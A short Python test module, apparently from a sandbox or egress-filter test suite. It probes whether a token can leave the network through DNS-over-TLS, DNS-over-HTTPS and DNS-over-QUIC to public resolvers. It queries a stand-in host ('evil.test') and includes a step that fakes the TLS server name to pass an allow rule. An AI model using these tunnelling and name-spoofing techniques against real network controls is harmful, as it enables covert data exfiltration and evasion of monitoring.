# SPDX-License-Identifier: Apache-2.0
"""Encrypted resolvers."""
import dns
import tls
from bypass import get

TITLE = "DoT, DoH, DoQ to public resolvers"
THREAT = "16"


def attack(c):
    public = "1.1.1.1" if c.family == 4 else "2606:4700:4700::1111"
    with c.step("DoT") as token:
        with c.tls(c.dial_address(public, 853), "cloudflare-dns.com") as s:
            q = dns.query(f"{token}.evil.test")
            c.talk(s, len(q).to_bytes(2, "big") + q)
    with c.step("DoH by address") as token:
        with c.tls(c.dial_address(public, 443), "cloudflare-dns.com") as s:
            c.talk(s, get("cloudflare-dns.com", f"/dns-query?dns={token}"))
    with c.step("DoH by name") as token:
        with c.tls(c.dial("dns.google", 443), "dns.google") as s:
            c.talk(s, get("dns.google", f"/resolve?name={token}.evil.test"))
    with c.step("DoH by address, with the allowed server name") as token:
        with c.tls(c.dial_address(public, 443), "ok.test") as s:
            c.talk(s, get("dns.google", f"/dns-query?dns={token}"))
    with c.step("DoQ") as token:
        c.udp(public, 853, token.encode().ljust(1200))
